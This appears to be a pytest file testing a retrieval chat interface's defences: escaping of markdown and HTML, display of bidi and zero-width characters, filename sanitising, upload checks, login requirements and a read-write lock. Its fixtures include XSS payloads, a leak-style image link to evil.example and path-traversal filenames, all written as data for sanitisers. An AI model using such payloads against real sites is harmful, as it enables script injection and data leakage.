"""The chat window's pure parts: safe rendering, safe uploads, safe exposure, the lock."""

from __future__ import annotations

import threading
import time

import pytest

from index.errors import ConfigError, InputError
from rag.config import RagConfig
from rag.types import Answer, AnswerSentence, Citation, Hit, ScoredSentence
from ui import render, upload
from ui.launch import check_exposure, is_loopback, parse_auth
from ui.rwlock import ReadWriteLock

HOSTILE = ("Talks resumed. <script>alert(1)</script> <img src=https://evil.example/leak.png> "
           "![x](https://evil.example/x.png?q=conversation) [click](javascript:alert(1)) **bold**")
EXTENSIONS = RagConfig().extensions


def _citation(quote: str, passage: str, marker: int = 1) -> Citation:
    start = passage.index(quote)
    return Citation(marker=marker, source="a.txt", quote=quote, start_char=100 + start, end_char=100 + start + len(quote),
                    passage=passage, passage_start=100, passage_end=100 + len(passage), chunk_id="c1",
                    section="reader comment 2 by Ann")


def test_markdown_escape_leaves_no_image_link_or_html():
    escaped = render.escape_markdown(HOSTILE + "\n# heading\n- item\n1. first")
    for active in ("![", "<script", "<img", "](", "**"):
        assert active not in escaped.replace("\\", "") or f"\\{active[0]}" in escaped
    assert "\\!\\[x\\]" in escaped and "\\<img" in escaped and "\\*\\*bold" in escaped
    assert "\\# heading" in escaped and "\\- item" in escaped and "1\\. first" in escaped


def test_answer_markdown_links_markers_and_marks_unverified_sentences():
    answer = Answer(
        question="q", text="Talks resumed. [1] They failed. [2]", abstained=False,
        citations=(_citation("Talks resumed.", "Talks resumed. Then more."),),
        sentences=(AnswerSentence("Talks resumed. [1]", (1,)),
                   AnswerSentence("They failed. [2]", (2,), False, "cites passage [2], which it was never given")),
        generator="openai", timings={"total": 812.4},
    )
    md = render.answer_markdown(answer)
    assert "[\\[1\\]](#cite-1)" in md  # a live link to passage 1
    assert "(#cite-2)" not in md  # no passage 2: no link
    assert "~~They failed. \\[2\\]~~ ⚠️ *unverified: cites passage \\[2\\], which it was never given*" in md
    assert md.rstrip().endswith("*openai · 812 ms*")


def test_abstention_is_labelled_and_closest_passages_are_shown_as_such():
    hit = Hit(chunk_id="c", source="b.txt", text="Nothing relevant here. Really.", start_char=0, end_char=30,
              score=0.1, sentences=(ScoredSentence("Nothing relevant here.", 0, 22, 0.2, 0.2, 0.0),))
    answer = Answer(question="q", text="The documents don't answer this: no passage mentions zebras. The closest passages are shown below.",
                    abstained=True, passages=(hit,))
    assert render.answer_markdown(answer).startswith("⚠️ **The documents don't answer this.**")
    panel = render.citations_html(answer)
    assert "Closest passages: they do not answer the question" in panel
    assert "<mark>Nothing relevant here.</mark>" in panel


def test_citations_panel_highlights_the_quote_and_escapes_the_passage():
    passage = f"Before. {HOSTILE} After."
    answer = Answer(question="q", text="x [1]", abstained=False, citations=(_citation("Talks resumed.", passage),))
    panel = render.citations_html(answer)
    assert '<div class="rag-cite" id="cite-1">' in panel
    assert "<mark>Talks resumed.</mark>" in panel
    assert "Reader comment 2 by Ann" in panel and "characters 108–122" in panel
    assert "<script" not in panel and "<img" not in panel and "javascript:" not in panel.replace("javascript:alert", "")
    assert "&lt;script&gt;" in panel


def test_direction_and_zero_width_characters_are_shown_not_obeyed():
    """U+202E turns "fee: 0051 GBP" into what reads as "PBG 1500 :eef"; U+200B hides inside a word."""
    quote = "The fee is \u202e0051 GBP\u202c and the pass\u200bword is 'lamp'."
    answer = Answer(question="q", text=f"{quote} [1]", abstained=False,
                    citations=(_citation(quote, f"Before. {quote} After."),),
                    sentences=(AnswerSentence(f"{quote} [1]", (1,)),))
    for shown in (render.answer_markdown(answer), render.citations_html(answer)):
        assert "\u202e" not in shown and "\u200b" not in shown and "\u202c" not in shown
        assert "⟦U+202E⟧0051 GBP⟦U+202C⟧" in shown and "pass⟦U+200B⟧word" in shown
    assert answer.citations[0].quote == quote  # only the display changes


def test_clean_html_strips_what_escaping_missed():
    dirty = '<div id="x" onclick="steal()"><img src="https://evil.example/a.png"><a href="https://evil.example">a</a><script>x</script></div>'
    clean = render.clean_html(dirty)
    assert clean == '<div id="x"><a>a</a></div>'


def test_document_view_marks_the_span_and_survives_a_vanished_document():
    html = render.document_html("a.txt", "one <b>two</b> three", 4, 14)
    assert f'<mark id="{render.DOCUMENT_MARK_ID}">&lt;b&gt;two&lt;/b&gt;</mark>' in html
    assert "no longer in the index" in render.document_html("gone.txt", None, 0, 5)


@pytest.mark.parametrize("given, expected", [
    ("notes.txt", "notes.txt"),
    ("../../.rag/manifest.md", "manifest.md"),
    ("..\\..\\windows\\evil.MD", "evil.md"),
    ("/etc/passwd.txt", "passwd.txt"),
    ("re port (final).html", "re port _final_.html"),
    ("a\x00b.txt", "ab.txt"),
    ("ｆｕｌｌｗｉｄｔｈ.txt", "fullwidth.txt"),
    ("x" * 300 + ".txt", "x" * 116 + ".txt"),
])
def test_safe_name_keeps_a_plain_base_name(given, expected):
    assert upload.safe_name(given, EXTENSIONS) == expected


@pytest.mark.parametrize("given", ["drawing.svg", "page.xhtml", "run.js", "notes", "..", ".txt", "noext.", "a.txt.exe"])
def test_safe_name_refuses_other_kinds(given):
    with pytest.raises(InputError):
        upload.safe_name(given, EXTENSIONS)


@pytest.mark.parametrize("data, why", [
    (b"", "empty"), (b"   \n", "empty"), (b"\x00\x01binary", "binary"),
    (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "SVG or script"),
    (b"hello <script>alert(1)</script>", "SVG or script"),
    (b"x" * 2001, "limit"),
])
def test_check_content_refuses_bad_bytes(data, why):
    with pytest.raises(InputError, match=why):
        upload.check_content("f.txt", data, max_bytes=2000)


def test_store_stays_in_the_upload_folder(tmp_path):
    source = tmp_path / "incoming"
    source.write_text("The river Zorblax floods every May.", encoding="utf-8")
    folder = tmp_path / "uploads"
    stored = upload.store(source, "../../outside.txt", folder, EXTENSIONS, 10_000)
    assert stored.path == (folder / "outside.txt").resolve() and stored.name == "outside.txt"
    assert not (tmp_path / "outside.txt").exists()
    source.write_text("A newer version.", encoding="utf-8")
    newer = upload.store(source, "outside.txt", folder, EXTENSIONS, 10_000)
    assert newer.path.read_text() == "A newer version."
    newer.undo()  # indexing refused it: the earlier upload is back
    assert newer.path.read_text() == "The river Zorblax floods every May."
    upload.store(source, "outside.txt", folder, EXTENSIONS, 10_000).keep()  # indexing took it
    assert newer.path.read_text() == "A newer version."
    assert sorted(p.name for p in folder.iterdir()) == ["outside.txt"]  # no partial or set-aside files left
    upload.store(source, "fresh.txt", folder, EXTENSIONS, 10_000).undo()  # refused with nothing before it
    assert sorted(p.name for p in folder.iterdir()) == ["outside.txt"]


def test_auth_spec_is_parsed_and_checked():
    assert parse_auth(None) is None
    assert parse_auth("ann:pw1, bob:p:w") == [("ann", "pw1"), ("bob", "p:w")]
    for bad in ("ann", "ann:", ":pw"):
        with pytest.raises(ConfigError):
            parse_auth(bad)


def test_exposure_needs_a_login_off_loopback_or_with_share():
    assert is_loopback("127.0.0.1") and is_loopback("localhost") and is_loopback("::1")
    assert not is_loopback("0.0.0.0") and not is_loopback("192.168.1.20")
    assert check_exposure(RagConfig(), share=False) is None
    with pytest.raises(ConfigError, match="RAG_UI_AUTH"):
        check_exposure(RagConfig(ui_host="0.0.0.0"), share=False)
    with pytest.raises(ConfigError, match="share link"):
        check_exposure(RagConfig(), share=True)
    assert check_exposure(RagConfig(ui_host="0.0.0.0", ui_auth="ann:pw"), share=False) == [("ann", "pw")]


def test_a_users_file_is_the_login_and_holds_no_password(tmp_path):
    from rag.users import add_user

    users = tmp_path / "users"
    add_user(users, "ann", "correct horse battery")
    assert "correct horse" not in users.read_text()
    login = check_exposure(RagConfig(ui_host="0.0.0.0", ui_users=users), share=False)
    assert login("ann", "correct horse battery") and not login("ann", "wrong password") and not login("bob", "x")


def test_chat_refuses_a_public_address_without_login(cli):
    result = cli("chat", "--host", "0.0.0.0", "--port", "7999")
    assert result.code == 2
    assert result.err.strip().splitlines() == [
        "error: refusing to serve on 0.0.0.0 (not a loopback address) without a login: set RAG_UI_USERS "
        "(rag users add NAME) or RAG_UI_AUTH=user:password"]


def test_write_lock_waits_for_readers_and_blocks_new_ones():
    lock = ReadWriteLock()
    events = []
    reader_in = threading.Event()

    def reader(name, hold):
        with lock.reading():
            reader_in.set()
            events.append(f"{name} in")
            time.sleep(hold)
            events.append(f"{name} out")

    def writer():
        with lock.writing():
            events.append("write")

    first = threading.Thread(target=reader, args=("r1", 0.3))
    first.start()
    reader_in.wait()
    w = threading.Thread(target=writer)
    w.start()
    time.sleep(0.05)
    late = threading.Thread(target=reader, args=("r2", 0))
    late.start()
    for t in (first, w, late):
        t.join(5)
    assert events == ["r1 in", "r1 out", "write", "r2 in", "r2 out"]
